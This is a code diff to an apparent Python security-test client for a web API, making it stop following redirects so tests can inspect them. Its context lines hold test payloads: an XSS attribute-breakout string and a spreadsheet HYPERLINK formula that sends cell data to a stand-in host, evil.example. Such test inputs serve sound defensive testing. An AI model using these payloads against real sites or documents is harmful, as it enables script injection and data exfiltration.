@@ -27,6 +27,16 @@ ATTR = '"><img src=x onerror=alert(2)>'
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
 
 
+class _NoRedirect(urllib.request.HTTPRedirectHandler):
+    """A redirect is an answer to check (where to?), not one to follow."""
+
+    def redirect_request(self, *args: Any, **kwargs: Any) -> None:
+        return None
+
+
+_OPENER = urllib.request.build_opener(_NoRedirect)
+
+
 @dataclass
 class Answer:
     status: int
@@ -57,7 +67,7 @@ class Api:
             sent["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.jar.items())
         req = urllib.request.Request(self.base + path, data=body, method=method, headers=sent)
         try:
-            with urllib.request.urlopen(req, timeout=60) as resp:
+            with _OPENER.open(req, timeout=60) as resp:
                 return Answer(resp.status, {k.lower(): v for k, v in resp.headers.items()},
                               resp.read().decode("utf-8", "replace"))
         except urllib.error.HTTPError as exc:
